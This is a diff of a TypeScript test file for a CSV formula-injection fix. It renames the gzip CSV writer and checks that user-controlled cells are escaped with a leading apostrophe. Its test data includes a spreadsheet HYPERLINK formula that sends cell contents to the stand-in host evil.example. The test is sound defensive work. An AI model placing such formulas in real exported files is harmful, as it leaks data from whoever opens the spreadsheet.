@@ -1,18 +1,19 @@
 import zlib from 'node:zlib';
 import { parse } from 'csv-parse/sync';
-import { writeCsvGzip } from '../../src/services/csvFiles';
+import { buffer } from 'node:stream/consumers';
+import { csvGzipStream } from '../../src/services/csvFiles';
 
 /**
  * Security finding 5: cells an end user or integrator controls (external references, dynamic fields,
  * error texts, emails in audit reports) went into result CSVs unescaped, so a spreadsheet ran them
  * as formulas. Every result CSV (success, failure, audit report, erasure rewrite) is written by
- * writeCsvGzip, which now escapes them the OWASP way: a leading apostrophe.
+ * csvGzipStream, which now escapes them the OWASP way: a leading apostrophe.
  */
 describe('CSV formula injection (finding 5)', () => {
   async function* one(rows: Record<string, unknown>[]) {
     yield rows;
   }
-  const render = async (rows: Record<string, unknown>[]) => zlib.gunzipSync(await writeCsvGzip(['ref', 'detail'], one(rows))).toString('utf8');
+  const render = async (rows: Record<string, unknown>[]) => zlib.gunzipSync(await buffer(csvGzipStream(['ref', 'detail'], one(rows)))).toString('utf8');
 
   it.each([
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
